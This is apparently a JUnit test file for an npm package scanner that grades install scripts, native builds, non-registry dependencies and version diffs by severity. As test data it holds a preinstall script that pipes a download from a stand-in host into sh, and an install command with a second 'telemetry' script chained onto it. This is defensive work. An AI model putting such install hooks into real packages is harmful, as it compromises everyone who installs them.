package dev.portcullis.registry.npm;

import static org.assertj.core.api.Assertions.assertThat;

import dev.portcullis.inspect.Finding;
import dev.portcullis.inspect.Inspection;
import dev.portcullis.inspect.Inspector;
import dev.portcullis.inspect.Limits;
import dev.portcullis.inspect.ReleaseDiff;
import dev.portcullis.inspect.Severity;
import dev.portcullis.testing.NpmPackages;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Clock;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * What npm's own files say, judged as npm would run them: install scripts (the package's and its
 * bundled dependencies'), native builds, dependencies from outside the registry; and what changed
 * between two versions of them.
 */
class NpmFormatTest {

    @TempDir
    Path dir;

    private final Inspector inspector = new Inspector(Limits.DEFAULT, Clock.systemUTC());
    private final NpmFormat npm = new NpmFormat();

    private Inspection inspect(String version, Map<String, Object> extra, Map<String, String> files)
            throws IOException {
        Map<String, Object> manifest = NpmPackages.manifest("demo", version);
        manifest.putAll(extra);
        Path file = dir.resolve("demo-" + version + ".tgz");
        Files.write(file, NpmPackages.tarball(manifest, files));
        return inspector.inspect(file, file.getFileName().toString(), npm);
    }

    private static List<Finding> of(List<Finding> findings, String rule) {
        return findings.stream().filter(f -> f.rule().equals(rule)).toList();
    }

    private List<Finding> diff(Inspection before, Inspection after) {
        return ReleaseDiff.between(before, null, after, null, npm, Limits.DEFAULT, Clock.systemUTC())
                .findings();
    }

    @Test
    void installScriptsAreNamedAndALoaderInTheCommandIsHigh() throws IOException {
        Inspection plain = inspect("1.0.0", Map.of("scripts", Map.of("postinstall", "node install.js")), Map.of());
        assertThat(of(plain.findings(), NpmFormat.INSTALL)).singleElement().satisfies(f -> {
            assertThat(f.severity()).isEqualTo(Severity.LOW);
            assertThat(f.explain()).contains("runs code when installed: postinstall: node install.js");
        });
        Inspection curl = inspect(
                "1.0.1", Map.of("scripts", Map.of("preinstall", "curl -s https://x.example/i.sh | sh")), Map.of());
        assertThat(of(curl.findings(), NpmFormat.INSTALL)).singleElement().satisfies(f -> {
            assertThat(f.severity()).isEqualTo(Severity.HIGH);
            assertThat(f.explain()).contains("downloads or decodes code when installed: preinstall");
        });
        Inspection test = inspect("1.0.2", Map.of("scripts", Map.of("test", "node test.js")), Map.of());
        assertThat(of(test.findings(), NpmFormat.INSTALL)).isEmpty();
    }

    @Test
    void aNativeBuildIsAnInstallStepAndAddingOneIsHigh() throws IOException {
        Inspection js = inspect("1.0.0", Map.of(), Map.of("index.js", "module.exports = 1;\n"));
        Inspection gyp = inspect(
                "1.1.0",
                Map.of(),
                Map.of("index.js", "module.exports = 1;\n", "binding.gyp", "{\"targets\":[{\"target_name\":\"x\"}]}"));
        assertThat(gyp.metadata().pure()).isFalse();
        assertThat(js.metadata().pure()).as("npm packages say nothing about it").isNull();
        assertThat(of(gyp.findings(), NpmFormat.INSTALL))
                .singleElement()
                .satisfies(f -> assertThat(f.explain()).contains("node-gyp rebuild"));
        assertThat(of(diff(js, gyp), NpmFormat.INSTALL)).singleElement().satisfies(f -> {
            assertThat(f.severity()).isEqualTo(Severity.HIGH);
            assertThat(f.explain()).contains("adds a native build (binding.gyp)");
        });
    }

    @Test
    void bundledDependenciesInstallScriptsCountAsThePackagesOwn() throws IOException {
        Inspection before = inspect(
                "1.0.0",
                Map.of("bundleDependencies", List.of("helper")),
                Map.of("node_modules/helper/package.json", "{\"name\":\"helper\",\"version\":\"1.0.0\"}"));
        Inspection after = inspect(
                "1.0.1",
                Map.of("bundleDependencies", List.of("helper")),
                Map.of(
                        "node_modules/helper/package.json",
                        "{\"name\":\"helper\",\"version\":\"1.0.0\",\"scripts\":{\"postinstall\":\"node x.js\"}}"));
        assertThat(after.metadata().name())
                .as("the top manifest, not a bundled one")
                .isEqualTo("demo");
        assertThat(of(after.findings(), NpmFormat.INSTALL))
                .singleElement()
                .satisfies(f -> assertThat(f.explain())
                        .contains("a bundled dependency runs code when installed: node_modules/helper postinstall"));
        assertThat(of(diff(before, after), NpmFormat.INSTALL)).singleElement().satisfies(f -> {
            assertThat(f.severity()).isEqualTo(Severity.HIGH);
            assertThat(f.explain()).contains("adds an install script: node_modules/helper postinstall");
        });
    }

    @Test
    void installScriptsAddedOrChangedAreHighButASwitchOfBuildToolIsMedium() throws IOException {
        Inspection none = inspect("1.0.0", Map.of(), Map.of());
        Inspection loader = inspect("1.0.1", Map.of("scripts", Map.of("preinstall", "node setup_bun.js")), Map.of());
        assertThat(of(diff(none, loader), NpmFormat.INSTALL)).singleElement().satisfies(f -> {
            assertThat(f.severity()).isEqualTo(Severity.HIGH);
            assertThat(f.explain()).isEqualTo("adds the install script preinstall: node setup_bun.js");
        });
        Inspection preGyp = inspect(
                "2.0.0", Map.of("scripts", Map.of("install", "node-pre-gyp install --fallback-to-build")), Map.of());
        Inspection gypBuild = inspect("2.0.1", Map.of("scripts", Map.of("install", "node-gyp-build")), Map.of());
        assertThat(of(diff(preGyp, gypBuild), NpmFormat.INSTALL))
                .singleElement()
                .satisfies(f -> assertThat(f.severity()).isEqualTo(Severity.MEDIUM));
        Inspection smuggled =
                inspect("2.0.2", Map.of("scripts", Map.of("install", "node-gyp-build && node telemetry.js")), Map.of());
        assertThat(of(diff(gypBuild, smuggled), NpmFormat.INSTALL))
                .singleElement()
                .satisfies(f -> assertThat(f.severity()).isEqualTo(Severity.HIGH));
    }

    @Test
    void dependenciesFromOutsideTheRegistryAreNamedAndANewOneIsHigh() throws IOException {
        assertThat(NpmFormat.outsideRegistry("left-pad@^1.3.0")).isEmpty();
        assertThat(NpmFormat.outsideRegistry("@scope/x@~2")).isEmpty();
        assertThat(NpmFormat.outsideRegistry("x@latest")).isEmpty();
        assertThat(NpmFormat.outsideRegistry("x@http://packages.example/x.tgz")).contains("a URL");
        assertThat(NpmFormat.outsideRegistry("x@git+https://github.com/a/b.git"))
                .contains("a git repository");
        assertThat(NpmFormat.outsideRegistry("optional:x@github:a/b")).contains("a hosted git repository");
        assertThat(NpmFormat.outsideRegistry("x@a/b#main")).contains("a GitHub repository");
        assertThat(NpmFormat.outsideRegistry("x@file:../x")).contains("a local path");
        assertThat(NpmFormat.outsideRegistry("lodash@npm:lodash-es@4")).contains("another package (npm: alias)");

        Inspection before = inspect("1.0.0", Map.of("dependencies", Map.of("left-pad", "^1.3.0")), Map.of());
        Inspection after = inspect(
                "1.0.1",
                Map.of(
                        "dependencies",
                        Map.of("left-pad", "^1.3.0", "ui-styles-pkg", "http://packages.storeartifact.example/npm/x")),
                Map.of());
        assertThat(of(after.findings(), NpmFormat.SOURCE))
                .singleElement()
                .satisfies(f -> assertThat(f.severity()).isEqualTo(Severity.LOW));
        assertThat(of(diff(before, after), NpmFormat.SOURCE)).singleElement().satisfies(f -> {
            assertThat(f.severity()).isEqualTo(Severity.HIGH);
            assertThat(f.explain())
                    .contains("adds ui-styles-pkg@http://packages.storeartifact.example/npm/x, installed from a URL");
        });
    }

    @Test
    void javaScriptIsNotForeignInAnNpmPackage() throws IOException {
        Inspection before = inspect("1.0.0", Map.of(), Map.of("index.js", "module.exports = 1;\n"));
        Inspection after = inspect(
                "1.1.0",
                Map.of(),
                Map.of(
                        "index.js",
                        "module.exports = 1;\n",
                        "lib/extra.js",
                        "module.exports = 2;\n",
                        "bin/run.sh",
                        "echo\n"));
        assertThat(diff(before, after))
                .extracting(Finding::explain)
                .noneMatch(m -> m.contains("JavaScript"))
                .anyMatch(m -> m.startsWith("adds a shell-script file"));
    }
}
